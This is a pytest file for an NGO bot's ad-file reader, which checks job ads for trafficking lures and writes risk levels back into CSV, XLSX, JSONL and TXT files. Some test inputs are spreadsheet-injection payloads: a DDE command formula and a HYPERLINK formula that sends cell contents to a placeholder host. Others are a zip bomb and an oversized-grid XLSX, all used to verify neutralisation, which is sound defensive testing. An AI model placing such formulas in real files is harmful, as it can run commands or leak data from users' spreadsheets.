"""Files of ads (bot/ngo/files.py): each type read and written back with the added columns, and each malformed kind
refused with a clear message; rows that fail are marked, never dropped."""
from __future__ import annotations

import csv
import io
import json
import re
import time
import zipfile

import openpyxl
import pytest

from bot.answer.i18n import translator
from bot.ngo import files as nf
from classifier import Checker
from tests.conftest import LEGIT, LURES

CHECKER = Checker()


def run(data: bytes, name: str, lang: str = "en") -> tuple[nf.Sheet, bytes]:
    sheet = nf.read(data, name)
    verdicts = CHECKER.check_many([r.text for r in sheet.rows if r.text is not None])
    return sheet, nf.write(sheet, nf.results_for(sheet, verdicts, lang), translator(lang))


def csv_rows(data: bytes, delimiter: str = ",") -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def test_csv_with_a_text_column_keeps_every_row_and_adds_the_columns():
    src = io.StringIO()
    w = csv.writer(src)
    w.writerow(["id", "source", "text"])
    w.writerow([1, "facebook", LURES["vi"]])
    w.writerow([2, "hotline", ""])  # an empty ad: marked
    w.writerow([3, "telegram", LEGIT["en"]])
    sheet, out = run(src.getvalue().encode(), "ads.csv", "vi")
    assert sheet.text_column == "text"
    rows = csv_rows(out)
    assert [r["id"] for r in rows] == ["1", "2", "3"]
    assert set(nf.ADDED) <= set(rows[0])
    assert rows[0]["level"] == "high_risk" and "HOTSPOT_DESTINATION" in rows[0]["reasons"]
    assert "telegram:@tuyendung_sv88" in rows[0]["contacts"]
    assert "Campuchia" not in rows[0]["explanations"] and len(rows[0]["explanations"].split("\n")) >= 3
    assert rows[1]["error"] == translator("vi")(nf.ROW_EMPTY) and rows[1]["level"] == ""
    assert rows[2]["level"] == "low_risk" and rows[2]["error"] == ""


def test_csv_semicolons_no_text_header_and_cp949():
    data = ("번호;내용\n1;" + LURES["ko"] + "\n").encode("cp949")
    sheet, out = run(data, "광고.csv", "ko")
    assert sheet.delimiter == ";" and sheet.text_column == "내용"
    assert csv_rows(out, ";")[0]["level"] == "high_risk"
    # no header naming the text: the first column holding text
    data = ("when,where,what\n2026-03-01,FB," + LURES["en"].replace(",", " ") + "\n").encode()
    assert nf.read(data, "x.csv").text_column == "what"
    # no header at all: the first line is an ad, checked like the others
    data = (LURES["en"].replace(",", " ") + "\n" + LEGIT["en"].replace(",", " ") + "\n").encode()
    sheet = nf.read(data, "x.csv")
    assert not sheet.had_header and sheet.ads == 2


def test_xlsx_round_trip_and_an_ad_is_never_a_formula():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Ads"
    ws.append(["Nội dung", "Nguồn"])
    ws.append([LURES["vi"], "fb"])
    ws.append(["placeholder", "web"])
    ws["A3"].value, ws["A3"].data_type = "=cmd|' /C calc'!A0 tuyển gấp, lương cao", "s"  # text that looks like a formula
    ws.append([None, "empty"])
    buf = io.BytesIO()
    wb.save(buf)
    sheet, out = run(buf.getvalue(), "ads.xlsx")
    assert sheet.text_column == "Nội dung" and sheet.ads == 3
    back = openpyxl.load_workbook(io.BytesIO(out))
    rows = [[c.value for c in r] for r in back["Ads"].iter_rows()]
    head = rows[0]
    assert head[:2] == ["Nội dung", "Nguồn"] and head[2:] == list(nf.ADDED)
    assert rows[1][head.index("level")] == "high_risk"
    formula_cell = back["Ads"].cell(row=3, column=1)
    assert formula_cell.data_type == "s" and formula_cell.value.startswith("'=")  # neutralised, kept
    assert rows[3][head.index("error")] == nf.ROW_EMPTY


def test_jsonl_marks_bad_lines_and_keeps_their_content():
    data = "\n".join([json.dumps({"text": LURES["km"], "id": 1}, ensure_ascii=False), "{broken", "[1, 2]",
                      json.dumps({"id": 4}), json.dumps({"body": LEGIT["km"]}, ensure_ascii=False)]).encode()
    sheet, out = run(data, "ads.jsonl")
    lines = [json.loads(x) for x in out.decode().splitlines()]
    assert len(lines) == 5
    assert lines[0]["id"] == 1 and lines[0]["level"] == "high_risk" and isinstance(lines[0]["reasons"], list)
    assert lines[1]["error"] == nf.ROW_BAD_JSON and lines[1]["raw"] == "{broken"
    assert lines[2]["error"] == nf.ROW_NOT_OBJECT
    assert lines[3]["error"] == nf.ROW_NO_TEXT and lines[3]["id"] == 4
    assert lines[4]["level"] in ("low_risk", "suspicious") and not lines[4]["error"]


def test_txt_blocks_separated_by_blank_lines():
    data = f"{LURES['vi']}\nZalo 0912 345 678\n\n\n{LEGIT['vi']}\n\n".encode()
    sheet, out = run(data, "ads.txt")
    assert sheet.ads == 2 and sheet.rows[1].line == 5
    text = out.decode()
    assert text.count("[LureCheck] level:") == 2 and "phone:+84912345678" in text
    assert text.startswith(LURES["vi"])


@pytest.mark.parametrize("data,name,words", [
    (b"", "a.csv", "empty"),
    (b"   \n\n", "a.txt", "empty"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "ads.csv", "not text"),
    (b"\x00\x01\x02binary" * 20, "ads.jsonl", "not text"),
    (b"text\nVi\xe9c l\xe0m l\xfd\xf4ng cao \xf0\xe2y\n", "ads.csv", "UTF-8"),
    (b'id,text\n1,"never closed\n', "ads.csv", "line 2"),
    (b"PK\x03\x04 not really a zip", "ads.xlsx", "not a valid Excel"),
    (b"hello", "ads.xlsx", "not a valid Excel"),
    (b"id,text\n", "ads.csv", "no ads"),
    (b"not json\nneither\n", "ads.jsonl", "not a JSONL file"),
    (b"x", "ads.xls", ".xls"),
    (b"x", "ads.pdf", "CSV, XLSX, JSONL and TXT"),
])
def test_malformed_files_get_a_clear_problem(data, name, words):
    with pytest.raises(nf.FileProblem) as e:
        nf.read(data, name)
    assert words in str(e.value)
    assert e.value.text("vi") != e.value.msgid or "{" in e.value.msgid  # translated


def test_limits_on_size_ads_and_unpacked_xlsx(monkeypatch):
    with pytest.raises(nf.FileProblem, match="too large"):
        nf.read(b"x" * (nf.MAX_BYTES + 1), "big.txt")
    many = "\n\n".join(f"ad number {i} with work" for i in range(12)).encode()
    with pytest.raises(nf.FileProblem, match="12 ads; I check at most 10"):
        nf.read(many, "many.txt", max_ads=10)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/workbook.xml", "<x/>")
        z.writestr("xl/big.xml", b"0" * 2_000_000)
    monkeypatch.setattr(nf, "MAX_UNZIPPED", 1_000_000)
    with pytest.raises(nf.FileProblem, match="unpacked"):
        nf.read(buf.getvalue(), "bomb.xlsx")


def test_output_names_and_types():
    assert nf.output_name("Quảng cáo tháng 3.xlsx", "xlsx") == "Quảng cáo tháng 3.checked.xlsx"
    assert nf.format_of("x.TSV") == "csv" and nf.format_of("x.ndjson") == "jsonl"
    assert nf.format_of(None, "text/csv") == "csv"


# ---------------------------------------------------------------- issue 13
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Click")'


def _xlsx(rows: list[list], dimension: str | None = None, extra_rows: str = "") -> bytes:
    """An XLSX written by openpyxl, then its sheet XML edited: a declared <dimension ref> and extra raw rows."""
    wb = openpyxl.Workbook()
    for r in rows:
        wb.active.append(r)
    for row in wb.active.iter_rows():
        for c in row:
            if isinstance(c.value, str):
                c.data_type = "s"  # a string that looks like a formula stays a string, as a pasted ad would
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                xml = data.decode()
                if dimension:
                    xml, n = re.subn(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{dimension}"/>', xml)
                    assert n == 1
                xml = xml.replace("</sheetData>", extra_rows + "</sheetData>")
                data = xml.encode()
            z.writestr(info, data)
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_string_cell_is_neutralised_original_columns_included(fmt):
    header = ["id", "source", "text"]
    body = [["1", HYPERLINK, LURES["vi"]], ["2", "@channel", "-" + LEGIT["en"]], ["3", "\tx", "+84 912 345 678 Zalo"]]
    if fmt == "csv":
        src = io.StringIO()
        csv.writer(src).writerows([header, *body])
        data = src.getvalue().encode()
    else:
        data = _xlsx([header, *body])
    sheet, out = run(data, f"ads.{fmt}")
    if fmt == "csv":
        rows = [list(r.values()) for r in csv_rows(out)]
    else:
        ws = openpyxl.load_workbook(io.BytesIO(out)).active
        assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
        rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    cells = [c for r in rows for c in r if isinstance(c, str)]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert rows[0][1] == "'" + HYPERLINK and rows[1][1] == "'@channel" and rows[1][2].startswith("'-")


def test_xlsx_ignores_a_declared_size_smaller_than_the_sheet():
    data = _xlsx([["id", "text"], *[[i, ad] for i, ad in enumerate((list(LURES.values()) + [LEGIT["en"]] * 5)[:5])]],
                 dimension="A1:A2")
    sheet = nf.read(data, "ads.xlsx")
    assert sheet.ads == 5 and sheet.text_column == "text"


def test_a_hostile_xlsx_declaring_the_whole_grid_is_refused_quickly():
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    data = _xlsx([["text"], [LURES["en"]]], dimension="A1:XFD1048576", extra_rows=far)
    assert len(data) < 10_000
    started = time.monotonic()
    with pytest.raises(nf.FileProblem, match="rows"):
        nf.read(data, "ads.xlsx")
    assert time.monotonic() - started < 20
    # a row far right is read without its thousands of empty cells
    wide = '<row r="3"><c r="A3" t="inlineStr"><is><t>' + LEGIT["en"] + '</t></is></c>' \
           '<c r="XFD3" t="inlineStr"><is><t>far</t></is></c></row>'
    sheet = nf.read(_xlsx([["text"], [LURES["en"]]], dimension="A1:XFD3", extra_rows=wide), "ads.xlsx")
    assert sheet.ads == 2 and all(len(r.cells) <= nf.MAX_XLSX_COLS for r in sheet.rows)


def test_xlsx_reading_has_a_wall_clock_limit(monkeypatch):
    monkeypatch.setattr(nf, "XLSX_TIMEOUT", 0.001)
    with pytest.raises(nf.FileProblem, match="too long"):
        nf.read(_xlsx([["text"], [LURES["en"]]]), "ads.xlsx")


def test_jsonl_keeps_the_ngos_own_fields_and_splits_at_newlines_only():
    obj = {"text": LURES["vi"] + " \u2028 nối \u2029 tiếp", "lang": "vi-VN", "level": "their-label", "error": "none"}
    data = (json.dumps(obj, ensure_ascii=False) + "\n" + json.dumps({"text": LEGIT["en"]}) + "\n").encode()
    sheet, out = run(data, "ads.jsonl")
    assert sheet.ads == 2 and not any(r.error for r in sheet.rows)
    lines = [json.loads(x) for x in out.decode().split("\n") if x]
    assert len(lines) == 2
    first = lines[0]
    assert (first["lang"], first["level"], first["error"]) == ("vi-VN", "their-label", "none")
    assert first["lurecheck_level"] == "high_risk" and first["lurecheck_lang"] == "vi" and "score" in first
    assert "lurecheck_level" not in lines[1] and lines[1]["level"] in ("low_risk", "suspicious")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_headerless_file_keeps_its_short_first_ad(fmt):
    ads = ["Tuyển gấp, Zalo 0912345678", LURES["vi"], LEGIT["vi"]]
    if fmt == "csv":
        data = ("\n".join(a.replace(",", " ") for a in ads) + "\n").encode()
    else:
        data = _xlsx([[a] for a in ads])
    sheet = nf.read(data, f"ads.{fmt}")
    assert not sheet.had_header and sheet.ads == 3
    assert sheet.rows[0].text.startswith("Tuyển gấp")
    # a real header is still one, named or not
    assert nf.read(("Nội dung\n" + LURES["vi"].replace(",", " ") + "\n").encode(), "a.csv").ads == 1
    assert nf.read(("Quảng cáo\n" + LURES["vi"].replace(",", " ") + "\n").encode(), "a.csv").ads == 1


def test_a_truncated_ad_is_marked():
    long_ad = LURES["en"] + " " + "x" * 25_000
    src = io.StringIO()
    csv.writer(src).writerows([["text"], [long_ad], [LEGIT["en"]]])
    _sheet, out = run(src.getvalue().encode(), "ads.csv")
    rows = csv_rows(out)
    assert rows[0]["truncated"] == "True" and rows[1]["truncated"] == "False"
    _sheet, out = run(f"{long_ad}\n\n{LEGIT['en']}".encode(), "ads.txt")
    assert out.decode().count("[LureCheck] truncated") == 1
